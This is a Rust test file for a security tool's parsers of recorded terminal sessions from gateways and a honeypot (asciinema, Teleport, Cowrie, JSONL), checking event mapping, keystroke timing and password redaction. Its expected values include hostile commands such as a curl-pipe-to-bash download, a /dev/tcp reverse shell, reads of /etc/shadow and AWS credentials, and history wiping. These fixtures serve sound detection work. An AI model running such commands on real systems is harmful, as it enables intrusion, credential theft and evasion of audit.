//! Gateway session parsers on the project's own small fixtures
//! (`tests/fixtures/session/...`): asciinema v2/v3, Teleport, Cowrie and
//! trailhound session JSON lines.

use std::path::PathBuf;

use trailhound_core::Event;
use trailhound_ingest::session::{asciinema, cowrie, jsonl, teleport};
use trailhound_ingest::{Collect, Emit, Format, ParseContext, Position, sniff};

type Parser = fn(&[u8], &ParseContext, &mut dyn Emit);

/// 2024-01-02T03:04:05Z in microseconds.
const T0: i64 = 1_704_164_645_000_000;

fn fixture_path(rel: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/session")
        .join(rel)
}

fn fixture(rel: &str) -> Vec<u8> {
    let path = fixture_path(rel);
    std::fs::read(&path).unwrap_or_else(|e| panic!("read {}: {e}", path.display()))
}

fn ctx(origin: &str) -> ParseContext {
    let mut ctx = ParseContext::new(origin);
    ctx.ingest_time = 42;
    ctx
}

fn run_bytes(parser: Parser, origin: &str, bytes: &[u8]) -> Collect {
    let mut out = Collect::default();
    parser(bytes, &ctx(origin), &mut out);
    out
}

fn run(parser: Parser, rel: &str) -> Collect {
    run_bytes(parser, rel, &fixture(rel))
}

fn names(events: &[Event]) -> Vec<&str> {
    events.iter().map(|e| e.event_name.as_str()).collect()
}

fn commands(events: &[Event]) -> Vec<&Event> {
    events
        .iter()
        .filter(|e| e.event_name == "session.command")
        .collect()
}

fn dead(out: &Collect) -> Vec<(Position, &str)> {
    out.dead_letters
        .iter()
        .map(|d| (d.position, d.reason))
        .collect()
}

fn close(a: Option<f64>, b: f64) -> bool {
    a.is_some_and(|a| (a - b).abs() < 0.01)
}

// ---------------------------------------------------------------- asciinema

#[test]
fn cast_v2_yields_start_commands_and_end() {
    let out = run(asciinema::parse, "asciinema/v2_session.cast");
    assert!(out.dead_letters.is_empty(), "{:?}", out.dead_letters);
    assert_eq!(
        names(&out.events),
        [
            "session.start",
            "session.command",
            "session.command",
            "session.command",
            "session.command",
            "session.command",
            "session.end"
        ]
    );
    let start = &out.events[0];
    assert_eq!(start.event_time, T0);
    assert_eq!(start.ingest_time, 42);
    assert_eq!(start.event_source, "asciinema");
    assert_eq!(start.event_category, "Session");
    assert_eq!(start.principal, "gateway:alice");
    assert_eq!(start.principal_type, "GatewayUser");
    assert_eq!(start.user_name.as_deref(), Some("alice"));
    assert_eq!(start.target.as_deref(), Some("web-1"));
    let sid = start.session_id.clone().expect("session id");
    assert_eq!(start.event_id, format!("{sid}:1"));
    assert!(
        out.events
            .iter()
            .all(|e| e.session_id.as_deref() == Some(&sid))
    );
    // The curl line is submitted by the Enter on line 15.
    let curl = commands(&out.events)[1];
    assert_eq!(
        curl.command.as_deref(),
        Some("curl -s http://x/y.sh | bash")
    );
    assert_eq!(curl.event_id, format!("{sid}:15"));
    assert_eq!(curl.event_time, T0 + 3_500_000);
}

#[test]
fn cast_backspace_is_replayed_and_shown_in_input() {
    let out = run(asciinema::parse, "asciinema/v2_session.cast");
    let ls = commands(&out.events)[0];
    assert_eq!(ls.command.as_deref(), Some("ls"));
    assert_eq!(ls.input.as_deref(), Some("lss^?"));
    assert_eq!(ls.keystrokes, Some(5));
    assert_eq!(ls.event_time, T0 + 2_000_000);
}

#[test]
fn cast_keystroke_timing_mean_and_stddev() {
    // ls: keys at 1.0, 1.2, 1.4, 1.6 (Backspace) and Enter at 2.0:
    // intervals 200, 200, 200, 400 ms.
    let out = run(asciinema::parse, "asciinema/v2_session.cast");
    let ls = commands(&out.events)[0];
    assert_eq!(ls.keystroke_interval_ms_mean, Some(250.0));
    assert!(close(ls.keystroke_interval_ms_stddev, 86.603));
    // v3: i at 1.0, d at 1.25, Enter at 2.0: intervals 250 and 750 ms.
    let out = run(asciinema::parse, "asciinema/v3_session.cast");
    let id = commands(&out.events)[0];
    assert_eq!(id.keystrokes, Some(3));
    assert_eq!(id.keystroke_interval_ms_mean, Some(500.0));
    assert_eq!(id.keystroke_interval_ms_stddev, Some(250.0));
}

#[test]
fn cast_pasted_line_has_near_zero_intervals() {
    let out = run(asciinema::parse, "asciinema/v2_session.cast");
    let curl = commands(&out.events)[1];
    // 28 characters in one chunk, then Enter 500 ms later.
    assert_eq!(curl.keystrokes, Some(29));
    assert!(close(curl.keystroke_interval_ms_mean, 500.0 / 28.0));
    assert!(close(curl.keystroke_interval_ms_stddev, 92.788));
}

#[test]
fn cast_line_after_password_prompt_is_redacted() {
    let out = run(asciinema::parse, "asciinema/v2_session.cast");
    assert_eq!(commands(&out.events)[2].command.as_deref(), Some("sudo -i"));
    let secret = commands(&out.events)[3];
    assert_eq!(secret.command.as_deref(), Some("[redacted]"));
    assert_eq!(secret.input.as_deref(), Some("[redacted]"));
    assert_eq!(secret.keystrokes, Some(8));
    let all = serde_json::to_string(&out.events).expect("json");
    assert!(!all.contains("hunter2"));
}

#[test]
fn cast_mysql_password_option_is_redacted() {
    let out = run(asciinema::parse, "asciinema/v2_session.cast");
    let mysql = commands(&out.events)[4];
    assert_eq!(
        mysql.command.as_deref(),
        Some("mysql -u root -p[redacted] prod")
    );
    assert_eq!(mysql.input, mysql.command);
    let all = serde_json::to_string(&out.events).expect("json");
    assert!(!all.contains("S3cret"));
}

#[test]
fn cast_ctrl_c_abandons_the_line() {
    let out = run(asciinema::parse, "asciinema/v2_session.cast");
    assert!(
        commands(&out.events)
            .iter()
            .all(|e| !e.command.as_deref().unwrap_or("").contains("vim"))
    );
}

#[test]
fn cast_end_counts_output_bytes_and_unsubmitted_input() {
    let out = run(asciinema::parse, "asciinema/v2_session.cast");
    let end = out.events.last().expect("end");
    assert_eq!(end.event_name, "session.end");
    assert_eq!(end.event_time, T0 + 7_500_000);
    assert_eq!(end.bytes_out, Some(223));
    assert_eq!(end.bytes_in, Some(88));
    let extra: serde_json::Value =
        serde_json::from_str(end.extra.as_deref().expect("extra")).expect("json");
    assert_eq!(extra["commands"], 5);
    assert_eq!(extra["unsubmitted_input"], true);
    assert_eq!(
        end.event_id,
        format!("{}:26", end.session_id.as_deref().unwrap_or(""))
    );
}

#[test]
fn cast_v3_sums_intervals_and_tolerates_markers_and_exit() {
    let out = run(asciinema::parse, "asciinema/v3_session.cast");
    assert!(out.dead_letters.is_empty(), "{:?}", out.dead_letters);
    assert_eq!(
        names(&out.events),
        ["session.start", "session.command", "session.end"]
    );
    let start = &out.events[0];
    assert_eq!(start.session_id.as_deref(), Some("rec-42"));
    assert_eq!(start.principal, "gateway:bob");
    assert_eq!(start.target.as_deref(), Some("db-2"));
    let id = &out.events[1];
    assert_eq!(id.command.as_deref(), Some("id"));
    assert_eq!(id.event_time, T0 + 2_000_000);
    assert_eq!(id.event_id, "rec-42:6");
    let end = &out.events[2];
    assert_eq!(end.event_time, T0 + 3_500_000);
    let extra: serde_json::Value =
        serde_json::from_str(end.extra.as_deref().expect("extra")).expect("json");
    assert_eq!(extra["exit_status"], 0);
    assert_eq!(extra["markers"], 1);
}

#[test]
fn cast_without_input_still_has_start_and_end() {
    let out = run(asciinema::parse, "asciinema/output_only.cast");
    assert!(out.dead_letters.is_empty());
    assert_eq!(names(&out.events), ["session.start", "session.end"]);
    let end = &out.events[1];
    assert_eq!(end.event_time, T0 + 1_250_000);
    assert_eq!(end.bytes_out, Some(12));
    assert_eq!(end.principal, "gateway:unknown");
}

#[test]
fn cast_bad_header_is_one_whole_dead_letter() {
    for header in [
        &b"not json\n[0.1, \"i\", \"id\\r\"]\n"[..],
        b"[2, 80, 24]\n",
        b"{\"version\": 1, \"width\": 80, \"height\": 24}\n",
        b"{\"width\": 80, \"height\": 24}\n",
        b"{\"version\": 2, \"width\": 80, \"height\": 24, \"timestamp\": \"today\"}\n",
        b"",
    ] {
        let out = run_bytes(asciinema::parse, "bad.cast", header);
        assert!(out.events.is_empty());
        assert_eq!(dead(&out), [(Position::Whole, "bad_header")]);
    }
}

#[test]
fn cast_without_timestamp_uses_ingest_time() {
    let cast = b"{\"version\": 2, \"width\": 80, \"height\": 24}\n[1.5, \"i\", \"id\\r\"]\n";
    let out = run_bytes(asciinema::parse, "x.cast", cast);
    assert_eq!(out.events[0].event_time, 42);
    assert_eq!(out.events[1].event_time, 42 + 1_500_000);
    assert!(
        out.events[0]
            .extra
            .as_deref()
            .is_some_and(|x| x.contains("\"timestamp_missing\":true"))
    );
}

#[test]
fn cast_bad_event_lines_are_dead_letters_and_the_rest_is_read() {
    let out = run(asciinema::parse, "asciinema/bad_lines.cast");
    assert_eq!(
        dead(&out),
        [
            (Position::Line(2), "invalid_json"),
            (Position::Line(3), "invalid_event"),
            (Position::Line(4), "invalid_event"),
            (Position::Line(5), "invalid_utf8"),
            (Position::Line(6), "invalid_event"),
        ]
    );
    assert_eq!(
        names(&out.events),
        ["session.start", "session.command", "session.end"]
    );
    assert_eq!(out.events[1].command.as_deref(), Some("id"));
    assert_eq!(out.events[1].principal, "gateway:eve");
}

#[test]
fn cast_session_id_is_a_stable_hash_of_file_name_and_header() {
    let bytes = fixture("asciinema/v2_session.cast");
    let a = run_bytes(asciinema::parse, "v2_session.cast", &bytes);
    let b = run_bytes(asciinema::parse, "/elsewhere/v2_session.cast", &bytes);
    let c = run_bytes(asciinema::parse, "other.cast", &bytes);
    let id = |o: &Collect| o.events[0].session_id.clone().unwrap_or_default();
    assert_eq!(id(&a).len(), 32);
    assert_eq!(id(&a), id(&b));
    assert_ne!(id(&a), id(&c));
}

#[test]
fn cast_header_secrets_are_redacted_in_extra() {
    let cast = b"{\"version\": 2, \"width\": 80, \"height\": 24, \"timestamp\": 1, \"command\": \"mysql -pTopSecret\", \"env\": {\"DB_PASSWORD\": \"TopSecret\", \"USER\": \"a\"}}\n";
    let out = run_bytes(asciinema::parse, "x.cast", cast);
    let extra = out.events[0].extra.clone().unwrap_or_default();
    assert!(!extra.contains("TopSecret"), "{extra}");
    assert!(extra.contains("[redacted]"));
}

// ---------------------------------------------------------------- teleport

#[test]
fn teleport_maps_events_to_session_names() {
    let out = run(teleport::parse, "teleport/audit.log");
    assert!(out.dead_letters.is_empty(), "{:?}", out.dead_letters);
    assert_eq!(
        names(&out.events),
        [
            "session.start",
            "session.command",
            "session.command",
            "session.command",
            "session.output",
            "session.output",
            "session.file_transfer",
            "session.start",
            "session.end",
            "session.end",
            "session.login",
            "session.login_failed",
            "session.command",
            "session.file_transfer",
            "session.other",
        ]
    );
    let start = &out.events[0];
    assert_eq!(start.event_source, "teleport");
    assert_eq!(start.principal, "gateway:alice@example.com");
    assert_eq!(start.target.as_deref(), Some("web-1"));
    assert_eq!(start.source_ip.as_deref(), Some("198.51.100.7"));
    assert_eq!(start.event_id, "5b3c1a9e-0000-4000-8000-000000000001:0");
    assert_eq!(start.event_time, T0);
    assert!(
        start
            .extra
            .as_deref()
            .is_some_and(|x| x.contains("\"login\":\"root\""))
    );
}

#[test]
fn teleport_command_is_built_from_program_and_argv() {
    let out = run(teleport::parse, "teleport/audit.log");
    let cmds: Vec<_> = commands(&out.events)
        .iter()
        .map(|e| e.command.as_deref().unwrap_or(""))
        .collect();
    assert_eq!(
        cmds,
        [
            "history -c",
            "bash -c 'unset HISTFILE'",
            "mysql -u root --password=[redacted] prod",
            "cat /etc/shadow",
        ]
    );
    // Later events of the session inherit its target and address.
    let history = commands(&out.events)[0];
    assert_eq!(history.target.as_deref(), Some("web-1"));
    assert_eq!(history.source_ip.as_deref(), Some("198.51.100.7"));
    assert_eq!(history.event_id, "5b3c1a9e-0000-4000-8000-000000000001:1");
    let exec = commands(&out.events)[3];
    assert_eq!(exec.target.as_deref(), Some("web-2"));
}

#[test]
fn teleport_output_bytes_from_data_and_print() {
    let out = run(teleport::parse, "teleport/audit.log");
    let data = &out.events[4];
    assert_eq!((data.bytes_out, data.bytes_in), (Some(4730), Some(3974)));
    let print = &out.events[5];
    assert_eq!(print.bytes_out, Some(120));
    assert_eq!(print.principal, "gateway:alice@example.com");
}

#[test]
fn teleport_joiner_is_the_principal_of_join_and_leave() {
    let out = run(teleport::parse, "teleport/audit.log");
    let (join, leave) = (&out.events[7], &out.events[8]);
    assert_eq!(join.principal, "gateway:bob@example.com");
    assert_eq!(join.source_ip.as_deref(), Some("2001:db8::5"));
    assert_eq!(leave.principal, "gateway:bob@example.com");
    assert_eq!(leave.source_ip.as_deref(), Some("2001:db8::5"));
    assert_eq!(out.events[9].principal, "gateway:alice@example.com");
}

#[test]
fn teleport_logins_transfers_and_errors() {
    let out = run(teleport::parse, "teleport/audit.log");
    let ok = &out.events[10];
    assert_eq!(ok.session_id, None);
    assert_eq!(ok.event_id, "u-11");
    assert_eq!(ok.error_code, None);
    let failed = &out.events[11];
    assert_eq!(failed.principal, "gateway:mallory");
    assert_eq!(failed.error_code.as_deref(), Some("T1000W"));
    assert!(
        failed
            .error_message
            .as_deref()
            .is_some_and(|m| m.contains("not found"))
    );
    let scp = &out.events[6];
    assert_eq!(scp.resources, ["~/secrets.txt"]);
    assert_eq!(scp.command.as_deref(), Some("scp -f ~/secrets.txt"));
    let sftp = &out.events[13];
    assert_eq!(sftp.session_id, None);
    assert_eq!(sftp.error_code.as_deref(), Some("TS001E"));
    assert_eq!(sftp.resources, ["/tmp/file"]);
}

#[test]
fn teleport_bad_lines_are_dead_letters() {
    let out = run(teleport::parse, "teleport/bad_lines.log");
    assert_eq!(
        dead(&out),
        [
            (Position::Line(2), "invalid_json"),
            (Position::Line(3), "missing_field"),
            (Position::Line(4), "missing_field"),
            (Position::Line(5), "invalid_field"),
            (Position::Line(6), "not_object"),
            (Position::Line(7), "missing_field"),
        ]
    );
    assert!(out.dead_letters[1].detail.contains("`time`"));
    assert!(out.dead_letters[2].detail.contains("`sid`"));
    assert!(out.dead_letters[5].detail.contains("`event`"));
    assert_eq!(names(&out.events), ["session.start", "session.end"]);
}

// ---------------------------------------------------------------- cowrie

#[test]
fn cowrie_user_is_tracked_per_session_from_login() {
    let out = run(cowrie::parse, "cowrie/cowrie.json");
    assert!(out.dead_letters.is_empty(), "{:?}", out.dead_letters);
    assert_eq!(
        names(&out.events),
        [
            "session.start",
            "session.other",
            "session.start",
            "session.command",
            "session.login_failed",
            "session.login",
            "session.command",
            "session.command",
            "session.command",
            "session.file_transfer",
            "session.other",
            "session.end",
        ]
    );
    let principals: Vec<_> = out.events.iter().map(|e| e.principal.as_str()).collect();
    assert_eq!(principals[0], "gateway:unknown");
    // The other session never logged in.
    assert_eq!(principals[3], "gateway:unknown");
    assert_eq!(principals[4], "gateway:admin");
    assert!(principals[5..].iter().all(|p| *p == "gateway:root"));
    let start = &out.events[0];
    assert_eq!(start.event_source, "cowrie");
    assert_eq!(start.source_ip.as_deref(), Some("203.0.113.9"));
    assert_eq!(start.target.as_deref(), Some("honeypot-1"));
    assert_eq!(start.event_id, "a1b2c3d4e5f6:1");
    assert_eq!(start.event_time, T0 + 100_000);
}

#[test]
fn cowrie_password_never_reaches_the_event() {
    let out = run(cowrie::parse, "cowrie/cowrie.json");
    let all = serde_json::to_string(&out.events).expect("json");
    for secret in ["admin123", "Tr0ub4dor", "hunter2"] {
        assert!(!all.contains(secret), "{secret} leaked");
    }
}

#[test]
fn cowrie_commands_downloads_and_close() {
    let out = run(cowrie::parse, "cowrie/cowrie.json");
    let shell = &out.events[7];
    assert_eq!(
        shell.command.as_deref(),
        Some("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")
    );
    assert_eq!(shell.input, shell.command);
    assert_eq!(shell.event_id, "a1b2c3d4e5f6:8");
    let failed = &out.events[8];
    assert_eq!(
        failed.command.as_deref(),
        Some("dbtool --password [redacted]")
    );
    assert_eq!(failed.error_code.as_deref(), Some("command_not_found"));
    let download = &out.events[9];
    assert_eq!(download.resources, ["http://203.0.113.9/x.sh"]);
    assert!(
        download
            .extra
            .as_deref()
            .is_some_and(|x| x.contains("shasum"))
    );
    let end = &out.events[11];
    assert!(
        end.extra
            .as_deref()
            .is_some_and(|x| x.contains("\"duration\":7.4"))
    );
}

#[test]
fn cowrie_bad_lines_are_dead_letters() {
    let out = run(cowrie::parse, "cowrie/bad_lines.json");
    assert_eq!(
        dead(&out),
        [
            (Position::Line(2), "missing_field"),
            (Position::Line(3), "missing_field"),
            (Position::Line(4), "missing_field"),
            (Position::Line(5), "missing_field"),
            (Position::Line(6), "invalid_json"),
        ]
    );
    let details: Vec<_> = out.dead_letters.iter().map(|d| d.detail.as_str()).collect();
    for (detail, field) in details
        .iter()
        .zip(["session", "eventid", "input", "timestamp"])
    {
        assert!(detail.contains(&format!("`{field}`")), "{detail}");
    }
    assert_eq!(names(&out.events), ["session.start", "session.command"]);
}

// ---------------------------------------------------------------- jsonl

#[test]
fn jsonl_types_map_to_event_names() {
    let out = run(jsonl::parse, "jsonl/session.jsonl");
    assert!(out.dead_letters.is_empty(), "{:?}", out.dead_letters);
    assert_eq!(
        names(&out.events),
        [
            "session.start",
            "session.command",
            "session.command",
            "session.output",
            "session.command",
            "session.command",
            "session.file_transfer",
            "session.login_failed",
            "session.other",
            "session.end",
        ]
    );
    let start = &out.events[0];
    assert_eq!(start.event_source, "bastion");
    assert_eq!(start.principal, "gateway:carol");
    assert_eq!(start.target.as_deref(), Some("db-1"));
    assert_eq!(start.source_ip.as_deref(), Some("192.0.2.10"));
    assert_eq!(start.event_id, "g-1:1");
    let creds = &out.events[1];
    assert_eq!(creds.command.as_deref(), Some("cat ~/.aws/credentials"));
    assert_eq!(creds.keystrokes, Some(23));
    assert_eq!(creds.keystroke_interval_ms_mean, Some(112.5));
    assert_eq!(creds.keystroke_interval_ms_stddev, Some(30.25));
    assert_eq!(out.events[3].bytes_out, Some(16));
    let transfer = &out.events[6];
    assert_eq!(transfer.event_id, "g-1:42");
    assert_eq!(transfer.resources, ["/var/backups/db.sql.gz"]);
    assert_eq!(transfer.bytes_out, Some(1_048_576));
    assert!(
        transfer
            .extra
            .as_deref()
            .is_some_and(|x| x.contains("download"))
    );
    assert_eq!(out.events[7].principal, "gateway:dave");
    assert_eq!(out.events[9].bytes_out, Some(2048));
}

#[test]
fn jsonl_input_lines_assemble_a_command_with_timing() {
    let out = run(jsonl::parse, "jsonl/session.jsonl");
    let whoami = &out.events[5];
    assert_eq!(whoami.command.as_deref(), Some("whoami"));
    assert_eq!(whoami.input.as_deref(), Some("whoami"));
    assert_eq!(whoami.event_id, "g-1:7");
    assert_eq!(whoami.event_time, T0 + 5_200_000);
    // w h o a at 10.0 s, m i Enter at 10.2 s: intervals 0 0 0 200 0 0 ms.
    assert_eq!(whoami.keystrokes, Some(7));
    assert!(close(whoami.keystroke_interval_ms_mean, 33.333));
    assert!(close(whoami.keystroke_interval_ms_stddev, 74.536));
}

#[test]
fn jsonl_command_after_password_prompt_is_redacted() {
    let out = run(jsonl::parse, "jsonl/session.jsonl");
    let secret = &out.events[4];
    assert_eq!(secret.command.as_deref(), Some("[redacted]"));
    assert_eq!(secret.input.as_deref(), Some("[redacted]"));
    assert_eq!(secret.keystrokes, Some(8));
    let all = serde_json::to_string(&out.events).expect("json");
    assert!(!all.contains("hunter2"));
}

#[test]
fn jsonl_command_given_only_as_keys_is_replayed() {
    let line = br#"{"trailhound":"session/v1","type":"command","time":"2024-01-02T03:04:05Z","session_id":"s","user":"a","data":"lss\u007f -la\r"}"#;
    let out = run_bytes(jsonl::parse, "k.jsonl", line);
    let ls = &out.events[0];
    assert_eq!(ls.command.as_deref(), Some("ls -la"));
    assert_eq!(ls.input.as_deref(), Some("lss^? -la"));
    assert_eq!(ls.keystrokes, Some(9));
    assert_eq!(ls.keystroke_interval_ms_mean, None);
}

#[test]
fn jsonl_unknown_type_is_other_with_type_in_extra() {
    let out = run(jsonl::parse, "jsonl/session.jsonl");
    let other = &out.events[8];
    let extra: serde_json::Value =
        serde_json::from_str(other.extra.as_deref().expect("extra")).expect("json");
    assert_eq!(extra["type"], "heartbeat");
    assert_eq!(extra["uptime_s"], 8);
}

#[test]
fn jsonl_bad_lines_are_dead_letters() {
    let out = run(jsonl::parse, "jsonl/bad_lines.jsonl");
    assert_eq!(
        dead(&out),
        [
            (Position::Line(2), "unsupported_version"),
            (Position::Line(3), "missing_field"),
            (Position::Line(4), "invalid_field"),
            (Position::Line(5), "invalid_field"),
            (Position::Line(6), "missing_field"),
            (Position::Line(7), "invalid_json"),
            (Position::Line(8), "missing_field"),
            (Position::Line(9), "missing_field"),
        ]
    );
    assert_eq!(names(&out.events), ["session.start", "session.end"]);
}

// ---------------------------------------------------------------- all formats

/// A valid line of each format, and its parser.
fn one_line_of_each() -> [(Parser, &'static str, &'static str); 4] {
    [
        (
            asciinema::parse,
            "{\"version\": 2, \"width\": 80, \"height\": 24, \"timestamp\": 1704164645}",
            "[0.5, \"i\", \"id\\r\"]",
        ),
        (
            teleport::parse,
            r#"{"ei":0,"event":"session.start","sid":"s","time":"2024-01-02T03:04:05Z","user":"a"}"#,
            r#"{"ei":1,"event":"session.command","sid":"s","time":"2024-01-02T03:04:06Z","program":"id"}"#,
        ),
        (
            cowrie::parse,
            r#"{"eventid":"cowrie.session.connect","session":"s","timestamp":"2024-01-02T03:04:05Z"}"#,
            r#"{"eventid":"cowrie.command.input","session":"s","input":"id","timestamp":"2024-01-02T03:04:06Z"}"#,
        ),
        (
            jsonl::parse,
            r#"{"trailhound":"session/v1","type":"start","time":"2024-01-02T03:04:05Z","session_id":"s","user":"a"}"#,
            r#"{"trailhound":"session/v1","type":"command","time":"2024-01-02T03:04:06Z","session_id":"s","user":"a","command":"id"}"#,
        ),
    ]
}

#[test]
fn line_over_the_limit_is_too_large_in_every_format() {
    for (parser, first, good) in one_line_of_each() {
        let long = format!("{}{}]", &good[..good.len() - 1], " ".repeat(300));
        let input = format!("{first}\n{long}\n{good}\n");
        let mut ctx = ctx("limits");
        ctx.limits.max_record_bytes = 256;
        let mut out = Collect::default();
        parser(input.as_bytes(), &ctx, &mut out);
        assert_eq!(dead(&out), [(Position::Line(2), "too_large")], "{first}");
        assert_eq!(commands(&out.events).len(), 1, "{first}");
    }
}

#[test]
fn non_utf8_line_is_invalid_utf8_in_every_format() {
    for (parser, first, good) in one_line_of_each() {
        let mut input = format!("{first}\n").into_bytes();
        input.extend_from_slice(b"{\"x\": \"\xc3\x28\"}\n");
        input.extend_from_slice(format!("{good}\n").as_bytes());
        let out = run_bytes(parser, "utf8", &input);
        assert_eq!(dead(&out), [(Position::Line(2), "invalid_utf8")], "{first}");
        assert_eq!(commands(&out.events).len(), 1, "{first}");
    }
}

#[test]
fn parsers_survive_garbage_and_truncation() {
    let fixtures = [
        (asciinema::parse as Parser, "asciinema/v2_session.cast"),
        (teleport::parse, "teleport/audit.log"),
        (cowrie::parse, "cowrie/cowrie.json"),
        (jsonl::parse, "jsonl/session.jsonl"),
    ];
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    for (parser, rel) in fixtures {
        let bytes = fixture(rel);
        // Every prefix, and the fixture with bytes flipped here and there.
        for cut in (0..bytes.len()).step_by(7) {
            let _ = run_bytes(parser, rel, &bytes[..cut]);
        }
        for _ in 0..200 {
            let mut noisy = bytes.clone();
            for _ in 0..8 {
                seed ^= seed << 13;
                seed ^= seed >> 7;
                seed ^= seed << 17;
                let at = (seed % noisy.len() as u64) as usize;
                if let Some(b) = noisy.get_mut(at) {
                    *b = (seed >> 32) as u8;
                }
            }
            let _ = run_bytes(parser, rel, &noisy);
        }
        let _ = run_bytes(parser, rel, b"\x00\x01\xff\n\n[[[[{{{{\n");
    }
}

#[test]
fn fixtures_are_sniffed_as_their_format() {
    for (rel, want) in [
        ("asciinema/v2_session.cast", Format::Asciinema),
        ("asciinema/v3_session.cast", Format::Asciinema),
        ("asciinema/output_only.cast", Format::Asciinema),
        ("asciinema/bad_lines.cast", Format::Asciinema),
        ("teleport/audit.log", Format::Teleport),
        ("teleport/bad_lines.log", Format::Teleport),
        ("cowrie/cowrie.json", Format::Cowrie),
        ("cowrie/bad_lines.json", Format::Cowrie),
        ("jsonl/session.jsonl", Format::SessionJsonl),
        ("jsonl/bad_lines.jsonl", Format::SessionJsonl),
    ] {
        assert_eq!(sniff(rel, &fixture(rel)), want, "{rel}");
    }
}

/// Found by the `asciinema` fuzz target: Ctrl-W (erase the last word)
/// after a whitespace character wider than one byte (an ideographic or
/// no-break space) cut the line inside that character and panicked.
#[test]
fn ctrl_w_after_a_wide_space_erases_the_word_without_panicking() {
    let cast = "{\"version\": 2, \"width\": 80, \"height\": 24}\n\
                [0.1, \"i\", \"sudo\\u3000ls\\u0017\\r\"]\n\
                [0.2, \"i\", \"id\\u00a0-u\\u0017\\u0017x\\r\"]\n";
    let mut out = Collect::default();
    asciinema::parse(cast.as_bytes(), &ctx("wide.cast"), &mut out);
    assert!(out.dead_letters.is_empty(), "{:?}", out.dead_letters);
    let commands: Vec<_> = out
        .events
        .iter()
        .filter_map(|e| e.command.as_deref())
        .collect();
    assert_eq!(commands, vec!["sudo", "x"]);
}
